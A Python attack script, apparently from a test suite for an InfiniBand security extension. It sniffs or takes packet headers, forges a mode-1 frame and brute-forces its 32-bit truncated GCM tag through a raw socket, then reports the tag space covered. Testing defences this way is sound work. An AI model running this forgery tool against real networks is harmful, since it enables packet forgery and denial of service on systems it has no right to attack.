"""32-bit tag brute force (seed 000 section 6.1): one forged mode-1 frame, every tag in turn.

Mode 1 truncates the GCM tag to the 32 bits of the ICRC field, so a forger needs about 2^31 tries. The
frame copies a captured request's headers (``--sniff``) or takes them from the command line; its PSN is
the receiver's next expected one (the in-order check comes before the MAC, so a wrong PSN is not even a
try). The target counts consecutive MAC failures, raises the security trap, and retires the key.
"""

from __future__ import annotations

from ibsec.builder import Builder, gid_bytes

from .common import RawSocket, blast, checked, gid_text, int0, parser, report, run
from .forge import capture
from .forging import forged


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.add_argument("--dst-gid", required=True)
    p.add_argument("--sniff", type=float, default=0.0, help="seconds to sniff for a request to copy")
    p.add_argument("--src-gid")
    p.add_argument("--pkey", type=int0)
    p.add_argument("--qpn", type=int0)
    p.add_argument("--psn", type=int0, help="PSN to use (default: captured + 1)")
    p.add_argument("--start", type=int0, default=0, help="first tag value to try")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    learnt = capture(sock, gid_text(args.dst_gid), args.sniff) if args.sniff else {}
    src_gid = args.src_gid or (learnt or {}).get("src_gid")
    pkey = args.pkey if args.pkey is not None else (learnt or {}).get("pkey")
    qpn = args.qpn if args.qpn is not None else (learnt or {}).get("qpn")
    psn = args.psn if args.psn is not None else (learnt or {}).get("psn", -1) + 1
    if src_gid is None or pkey is None or qpn is None:
        raise SystemExit("tag_brute: nothing captured; give --src-gid, --pkey and --qpn")
    src = gid_bytes(gid_text(src_gid))
    frame = bytearray(
        forged(
            Builder(sock.mac, src),
            1,
            args.dst_gid,
            "RC_SEND_ONLY",
            pkey,
            qpn,
            psn,
            b"brute force",
            ackreq=True,
        )
    )

    def attempt(i: int) -> bytes:
        frame[-4:] = ((args.start + i) & 0xFFFFFFFF).to_bytes(4, "big")
        return bytes(frame)

    summary = blast(sock, attempt, args)
    report(
        {
            "attack": "tag_brute",
            "psn": psn,
            "qpn": qpn,
            "tags_tried": summary["sent"],
            "space_covered": summary["sent"] / 2**32,
            **summary,
        }
    )
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
